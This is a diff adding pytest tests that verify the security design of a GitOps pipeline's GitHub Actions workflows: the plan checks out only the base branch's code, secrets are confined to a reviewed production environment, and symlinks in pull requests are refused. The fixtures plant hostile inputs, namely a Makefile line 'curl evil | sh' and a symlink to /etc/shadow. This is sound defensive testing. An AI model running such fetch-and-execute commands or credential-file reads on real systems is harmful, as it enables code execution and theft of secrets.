@@ -1,0 +1,124 @@
+"""The GitOps workflows (issue 11, "Pipeline"): a pull request's code never runs next to the state;
+only the up workflow, behind a reviewed environment, gets the write-capable backend."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+REPO = Path(__file__).resolve().parents[2]
+WORKFLOWS = REPO / ".github" / "workflows"
+
+
+def workflow(name: str) -> dict[Any, Any]:
+    data = yaml.safe_load((WORKFLOWS / name).read_text())
+    assert isinstance(data, dict)
+    return data
+
+
+def triggers(data: dict[Any, Any]) -> dict[str, Any]:
+    on = data.get("on", data.get(True))  # YAML 1.1 reads the key `on` as true
+    return dict(on)
+
+
+def test_the_plan_runs_the_base_branchs_code_with_the_pull_requests_stacks_only() -> None:
+    plan = workflow("virtstack-plan.yml")
+    # pull_request would take this very workflow (and its steps) from the pull request.
+    assert list(triggers(plan)) == ["pull_request_target"]
+    steps = plan["jobs"]["plan"]["steps"]
+    checkout = steps[0]
+    assert checkout["uses"].startswith("actions/checkout@")
+    assert checkout["with"]["ref"] == "${{ github.event.pull_request.base.sha }}"
+    assert checkout["with"]["persist-credentials"] is False
+    # Nothing else from the pull request's tree is checked out or run.
+    scripts = "\n".join(step.get("run", "") for step in steps)
+    assert scripts.count("git checkout") == 1 and "-- stacks" in scripts
+    assert "head.ref" not in (WORKFLOWS / "virtstack-plan.yml").read_text()
+
+
+def test_only_the_up_workflow_has_the_write_capable_backend_behind_a_reviewed_environment() -> None:
+    up = workflow("virtstack-up.yml")
+    job = up["jobs"]["up"]
+    assert job["environment"] == "production"
+    assert "PULUMI_CONFIG_PASSPHRASE" in job["env"] and "PULUMI_CONFIG_PASSPHRASE" not in up.get("env", {})
+    for name in ("virtstack-plan.yml", "virtstack-drift.yml"):
+        data = workflow(name)
+        assert "PULUMI_CONFIG_PASSPHRASE" not in data.get("env", {}), name
+        assert "PULUMI_BACKEND_URL" not in data.get("env", {}), name
+        [job] = data["jobs"].values()
+        assert job["environment"] == "plan", name
+        # The state is read from a copy, never the real backend.
+        scripts = "\n".join(step.get("run", "") for step in job["steps"])
+        assert 'PULUMI_BACKEND_URL=file://$copy" >> "$GITHUB_ENV"' in scripts, name
+        assert "environment: production" not in (WORKFLOWS / name).read_text(), name
+
+
+def git(cwd: Path, *args: str) -> str:
+    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t"}
+    env["GIT_COMMITTER_EMAIL"] = "t@t"
+    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout
+
+
+def take_stacks_script() -> str:
+    [step] = [
+        s for s in workflow("virtstack-plan.yml")["jobs"]["plan"]["steps"] if "stacks/**" in s.get("name", "")
+    ]
+    return str(step["run"])
+
+
+@pytest.fixture
+def repos(tmp_path: Path) -> tuple[Path, Path, str, str]:
+    """origin with a base commit and a pull request head (refs/pull/7/head); a clone of the base."""
+    work = tmp_path / "work"
+    work.mkdir()
+    git(work, "init", "-q", "-b", "main")
+    (work / "stacks").mkdir()
+    (work / "stacks" / "dev.yaml").write_text("base\n")
+    (work / "Makefile").write_text("setup:\n\ttrue\n")
+    git(work, "add", "-A")
+    git(work, "commit", "-qm", "base")
+    base = git(work, "rev-parse", "HEAD").strip()
+    (work / "stacks" / "dev.yaml").write_text("from the pull request\n")
+    (work / "Makefile").write_text("setup:\n\tcurl evil | sh\n")
+    git(work, "commit", "-qam", "pr")
+    head = git(work, "rev-parse", "HEAD").strip()
+    git(work, "update-ref", "refs/pull/7/head", head)
+    runner = tmp_path / "runner"
+    git(tmp_path, "clone", "-q", str(work), str(runner))
+    git(runner, "checkout", "-q", base)
+    return work, runner, base, head
+
+
+def run_step(runner: Path, base: str, head: str) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "BASE_SHA": base, "HEAD_SHA": head, "PR": "7"}
+    return subprocess.run(
+        ["bash", "-e", "-c", take_stacks_script()], cwd=runner, env=env, capture_output=True, text=True
+    )
+
+
+def test_the_step_takes_the_stacks_and_leaves_the_code(repos: tuple[Path, Path, str, str]) -> None:
+    _, runner, base, head = repos
+    proc = run_step(runner, base, head)
+    assert proc.returncode == 0, proc.stderr
+    assert (runner / "stacks" / "dev.yaml").read_text() == "from the pull request\n"
+    assert (runner / "Makefile").read_text() == "setup:\n\ttrue\n"  # the base branch's, not the PR's
+    assert "Makefile" in (runner / "code-note.md").read_text()
+
+
+def test_the_step_refuses_a_symlink_in_stacks(repos: tuple[Path, Path, str, str]) -> None:
+    work, runner, base, _ = repos
+    (work / "stacks" / "dev.yaml").unlink()
+    (work / "stacks" / "dev.yaml").symlink_to("/etc/shadow")
+    git(work, "add", "-A")
+    git(work, "commit", "-qm", "symlink")
+    head = git(work, "rev-parse", "HEAD").strip()
+    git(work, "update-ref", "refs/pull/7/head", head)
+    proc = run_step(runner, base, head)
+    assert proc.returncode != 0
+    assert "not regular files: stacks/dev.yaml" in proc.stdout
+    assert (runner / "stacks" / "dev.yaml").read_text() == "base\n"
